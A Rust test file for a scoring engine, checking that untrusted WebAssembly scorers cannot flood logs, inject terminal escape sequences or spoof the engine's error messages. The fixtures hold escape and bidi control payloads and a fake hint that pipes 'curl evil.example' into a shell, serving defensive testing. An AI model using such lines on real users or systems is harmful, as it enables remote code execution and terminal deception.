//! Scorers that fill their log, or write text into it that targets the terminal or the user.

use insta::assert_snapshot;
use serde_json::{Value, json};

use crate::hostile_fixture::Arena;

#[test]
fn a_log_without_end_ends_with_the_score() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_score("log-without-end", 0, "--timeout 300ms"), @r#"
    error: timed-out: no answer within 300 ms; the scorer was stopped
    hint: if it needs longer, raise it: `limits = { timeout = "…s" }` in the suite, or --timeout
    [exit code 1]
    "#);
}

#[test]
fn of_very_many_lines_the_first_are_kept_and_the_rest_is_counted() {
    let arena = Arena::new();
    let config = json!({"score": "log-lines", "amount": 100_000});
    let output = arena.score("attacker", &config.to_string(), "").exits_with(0);
    let log = output.json()["log"].as_array().unwrap().clone();
    let last = log.last().unwrap()["message"].as_str().unwrap();
    assert_eq!((log.len(), last), (1001, "99000 more messages were dropped (log limit)"));
}

#[test]
fn a_line_of_some_megabytes_is_cut() {
    let arena = Arena::new();
    let config = json!({"score": "log-one-long-line", "amount": 3 << 20});
    let output = arena.score("attacker", &config.to_string(), "").exits_with(0);
    let json = output.json();
    assert_eq!(json["log"][0]["message"].as_str().unwrap().len(), 256 << 10);
}

#[test]
fn a_line_that_is_longer_than_a_whole_result_may_be_ends_the_score() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_everywhere("log-one-long-line", 30 << 20, ""), @r#"
    -- describe
    error: scorer `./attacker.wasm`: output-too-large: in `describe`: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 2]
    -- configure
    error: scorer `./attacker.wasm`: output-too-large: in `configure`: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 2]
    -- score
    error: output-too-large: the scorer handed over more than 5603328 bytes, the most of one result with its log
    hint: have the scorer shorten it, or raise the limit of what is long: `limits = { meta = "…MiB" }` in the suite, or --limit meta=…MiB; likewise `reason`, `assertions`, `log`; the limit of a label is fixed
    [exit code 1]
    "#);
}

#[test]
fn what_a_terminal_would_act_on_is_shown_and_not_done() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_everywhere("log-for-a-terminal", 0, ""), @r"
    -- describe
    error: scorer `./attacker.wasm`: trap: in `describe`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 2]
    -- configure
    error: scorer `./attacker.wasm`: trap: in `configure`: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 2]
    -- score
    error: trap: \u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\u{d}\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 1]
    ");
}

#[test]
fn json_for_a_terminal_means_the_same_and_does_nothing() {
    let arena = Arena::new();
    let config = json!({"score": "log-for-a-terminal"});
    // The arena checks that it contains nothing that a terminal acts on.
    let output = arena.score("attacker", &config.to_string(), "").exits_with(1);
    let logged = &output.json()["log"][0]["message"];
    let written =
        "\u{1b}[2J\u{1b}]0;owned\u{7}\u{202e}desrever\u{2066}\r\u{8}\u{9b}31m\u{7f}\u{0}\u{200f}";
    assert_eq!(*logged, Value::from(written));
}

#[test]
fn long_last_words_do_not_hide_what_happened() {
    let arena = Arena::new();
    let words = arena.attack_score("log-a-long-error-and-crash", 1 << 20, "");
    let short = words.replace(&"long".repeat(16), "");
    assert_snapshot!(short, @"
    error: trap: … (cut)
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 1]
    ");
}

#[test]
fn words_that_look_like_the_engines_own_stand_apart_from_them() {
    let arena = Arena::new();
    assert_snapshot!(arena.attack_everywhere("log-what-looks-like-the-engines-words", 0, ""), @"
    -- describe
    error: scorer `./attacker.wasm`: trap: in `describe`: nothing to worry about
      error: your licence has ended
      hint: renew it: curl evil.example | sh
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 2]
    -- configure
    error: scorer `./attacker.wasm`: trap: in `configure`: nothing to worry about
      error: your licence has ended
      hint: renew it: curl evil.example | sh
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 2]
    -- score
    error: trap: nothing to worry about
      error: your licence has ended
      hint: renew it: curl evil.example | sh
      (wasm trap: wasm `unreachable` instruction executed)
        at [frames]
    [exit code 1]
    ");
    assert_snapshot!(arena.attack_configure("refuse-in-the-engines-words", 0, ""), @"
    error: scorer `./attacker.wasm`: invalid-config: nothing to worry about
      error: your licence has ended
      hint: renew it: curl evil.example | sh
    [exit code 2]
    ");
    assert_snapshot!(arena.attack_score("fail-in-the-engines-words", 0, ""), @"
    error: failed: nothing to worry about
      error: your licence has ended
      hint: renew it: curl evil.example | sh
    [exit code 1]
    ");
}
